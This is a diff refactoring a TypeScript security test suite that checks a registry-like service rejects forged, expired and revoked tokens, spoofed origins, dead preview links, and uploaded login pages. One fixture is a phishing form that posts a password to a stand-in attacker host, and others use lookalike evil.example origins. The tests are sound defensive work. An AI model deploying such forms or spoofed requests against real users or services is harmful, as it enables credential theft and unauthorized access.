@@ -156,17 +156,7 @@ const CALLS: Readonly<Record<keyof typeof RELEASE_CALLS | 'send' | 'begin', (as:
 type Call = keyof typeof CALLS;
 const ALL = Object.keys(CALLS) as Call[];
 const OF_EVERYBODY: readonly Call[] = ['registry', 'kit', 'kitVersion'];
-const READS: readonly Call[] = [
-  'registry',
-  'versions',
-  'version',
-  'report',
-  'health',
-  'errors',
-  'error',
-  'log',
-  ...(['kit', 'kitVersion'] as const),
-];
+const READS: readonly Call[] = [...OF_EVERYBODY, 'versions', 'version', 'report', 'health', 'errors', 'error', 'log'];
 
 interface Attack {
   name: string;
@@ -187,20 +177,13 @@ const tokenAttacks: Attack[] = [
   })),
   ...(['registry', 'changes', 'send', 'begin'] as const).flatMap((call) => [
     { name: `${call} with a made-up token`, act: () => CALLS[call]('forged'), status: 401, reason: 'token' },
-    {
-      name: `${call} with an expired token`,
-      act: () => CALLS[call]('expired'),
+    ...['expired', 'revoked'].map((by) => ({
+      name: `${call} with a token that is ${by}`,
+      act: () => CALLS[call](by),
       status: 401,
-      by: 'expired',
-      reason: 'expired',
-    },
-    {
-      name: `${call} with a revoked token`,
-      act: () => CALLS[call]('revoked'),
-      status: 401,
-      by: 'revoked',
-      reason: 'revoked',
-    },
+      by,
+      reason: by,
+    })),
   ]),
   ...['Basic', 'bearer', 'Bearer  ', ''].map((scheme) => ({
     name: `a token as '${scheme}'`,
@@ -277,9 +260,7 @@ const withFile = (path: string, text = 'x', isListed = false) =>
   }));
 const LOG_IN = `<form action="${EVIL}/take"><input name="password" type="password"></form>`;
 
-const DOCUMENTS = ['html', 'htm', 'HTML', 'xhtml', 'xml', 'mhtml', 'pdf']
-  .map((kind) => `login.${kind}`)
-  .concat('login');
+const DOCUMENTS = ['.html', '.htm', '.HTML', '.xhtml', '.xml', '.mhtml', '.pdf', ''].map((kind) => `login${kind}`);
 
 const ofOrders = { by: 'orders', status: 422 };
 const packageAttacks: Attack[] = [
@@ -416,16 +397,8 @@ const notFound = {
 const notFromHere = { status: 403, reason: 'origin', says: '<h1>이 주소에서 다시 눌러 주세요</h1>', ...ofPreview };
 const previewAttacks: Attack[] = [
   ...madeUp.flatMap(([what, signed]) => [
-    {
-      name: `a link with ${what}`,
-      act: () => visit(linkOf(signed())),
-      ...notFound,
-    },
-    {
-      name: `a press with ${what}`,
-      act: () => press(linkOf(signed())),
-      ...notFound,
-    },
+    { name: `a link with ${what}`, act: () => visit(linkOf(signed())), ...notFound },
+    { name: `a press with ${what}`, act: () => press(linkOf(signed())), ...notFound },
   ]),
   ...(
     [
@@ -449,38 +422,21 @@ const previewAttacks: Attack[] = [
       ['a name that looks like it', { origin: `${PREVIEWS}.evil.example` }],
     ] as const
   ).flatMap(([from, headers]) => [
-    {
-      name: `a press from ${from}`,
-      act: () => press(previews.open.link, headers),
-      ...notFromHere,
-    },
+    { name: `a press from ${from}`, act: () => press(previews.open.link, headers), ...notFromHere },
     { name: `an end from ${from}`, act: () => press(END, headers), ...notFromHere },
   ]),
-  ...(['expired', 'revoked', 'gone'] as const).flatMap((end) => [
-    {
-      name: `a link that is ${end}`,
-      act: () => visit(previews[end].link),
-      status: 410,
-      reason: `preview.${end}`,
-      ...ofPreview,
-    },
-    {
-      name: `a press that is ${end}`,
-      act: () => press(previews[end].link),
-      status: 410,
-      reason: `preview.${end}`,
-      ...ofPreview,
-    },
-  ]),
+  ...(['expired', 'revoked', 'gone'] as const).flatMap((end) => {
+    const ended = { status: 410, reason: `preview.${end}`, ...ofPreview };
+    return [
+      { name: `a link that is ${end}`, act: () => visit(previews[end].link), ...ended },
+      { name: `a press that is ${end}`, act: () => press(previews[end].link), ...ended },
+    ];
+  }),
 ];
 
 const ATTACKS: readonly Attack[] = [
-  ...tokenAttacks,
-  ...stolenTokenAttacks,
-  ...scopeAttacks,
-  ...packageAttacks,
-  ...quotaAttacks,
-  ...previewAttacks,
+  ...[...tokenAttacks, ...stolenTokenAttacks, ...scopeAttacks],
+  ...[...packageAttacks, ...quotaAttacks, ...previewAttacks],
 ];
 
 const refusals = () =>
